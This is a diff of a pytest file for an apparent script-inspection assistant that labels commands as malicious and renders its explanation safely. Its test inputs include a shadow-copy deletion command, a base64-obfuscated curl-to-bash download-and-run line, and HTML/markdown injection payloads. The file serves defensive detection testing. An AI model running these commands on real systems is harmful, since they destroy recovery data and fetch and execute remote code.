@@ -5,42 +5,43 @@ from __future__ import annotations
 import pytest
 from markdown_it import MarkdownIt
 
-from svc.assistant.findings import LooseFinding as Finding
+from svc.assistant.findings import Facts, Finding
 from svc.assistant.skills.script.answer import SECTION
-from svc.assistant.skills.script.tool import explain
+from svc.assistant.skills.script.tool import inspect
 
 
-def found(text: str, source: str = "prompt") -> list[Finding]:
-    return [item for item in explain(text, source=source) if isinstance(item, Finding)]
+def found(text: str, source: str = "prompt") -> list[Finding[Facts]]:
+    return [item for item in inspect(text, source=source) if isinstance(item, Finding)]
 
 
-def test_the_verdict_comes_first_with_its_reasons_and_that_nothing_was_run():
-    said = SECTION.verdict(found("vssadmin delete shadows /all /quiet"))
-    assert said.startswith("**Malicious**")
-    assert "shadow copies" in said
-    assert "Read, not run." in said
+def test_the_verdict_has_its_reasons_and_says_that_nothing_was_executed():
+    verdict = SECTION.verdict(found("vssadmin delete shadows /all /quiet"))
+    assert verdict.startswith("**Malicious**")
+    assert "shadow copies" in verdict
+    assert "nothing was executed" in verdict
 
 
-def test_ordinary_work_is_not_called_anything_bad():
-    assert SECTION.verdict(found("apt-get install -y nginx")).startswith("**Nothing that attackers are known for**")
+def test_ordinary_work_is_not_called_malicious():
+    assert SECTION.verdict(found("apt-get install -y nginx")).startswith("**No known malicious behaviour**")
 
 
 def test_the_body_shows_behaviours_techniques_stages_and_commands():
     body = SECTION.body(found("echo Y3VybCBodHRwOi8vYS50ZXN0L3ggfCBiYXNo | base64 -d | sh"))
-    for words in ("What it does", "Techniques, likeliest first", "Stage 2", "in order", "Unix Shell"):
+    for words in ("What it does", "Techniques, most likely first", "Stage 2", "in order", "Unix Shell"):
         assert words in body
 
 
-def test_without_a_script_the_answer_says_so():
+def test_without_a_script_the_verdict_says_so():
     assert "No command or script" in SECTION.verdict([])
     assert SECTION.body([]) == ""
     assert SECTION.next_steps([]) == []
 
 
-def test_several_scripts_are_told_apart():
+def test_several_scripts_have_a_heading_each():
     both = found("whoami", "a.bat") + found("vssadmin delete shadows /all", "b.bat")
     assert "`b.bat`" in SECTION.verdict(both)
     assert "**a.bat**" in SECTION.body(both)
+    assert "**b.bat**" in SECTION.body(both)
 
 
 def test_next_steps_follow_from_what_was_found():
@@ -50,7 +51,7 @@ def test_next_steps_follow_from_what_was_found():
 
 
 @pytest.mark.parametrize("evil", ["[x](http://evil.test)", "<img src=x onerror=alert(1)>", "`|`|`", "# title"])
-def test_what_a_script_says_stays_text(evil: str):
+def test_a_script_is_not_rendered(evil: str):
     findings = found(f"curl http://a.test/{evil} -o '{evil}' | bash -c \"{evil}\"; powershell -File {evil}")
     html = MarkdownIt("js-default").render(SECTION.body(findings))
     assert "<img" not in html
